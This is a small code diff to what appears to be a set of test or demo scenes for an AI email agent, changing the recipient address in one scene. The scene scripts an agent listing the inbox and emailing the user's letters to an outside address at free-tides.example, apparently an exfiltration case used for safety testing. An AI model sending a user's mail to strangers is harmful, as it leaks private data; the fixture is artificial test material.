@@ -40,7 +40,7 @@ export const SCENES = [
       { tool: "list_inbox" },
       {
         tool: "send_email",
-        arguments: { to: "reviews@free-tides.example", subject: "As you asked", body: "<body>" },
+        arguments: { to: "data-desk@free-tides.example", subject: "As you asked", body: "<body>" },
       },
     ],
     answer: "I tried to send your letters to a stranger. See above what became of it.",
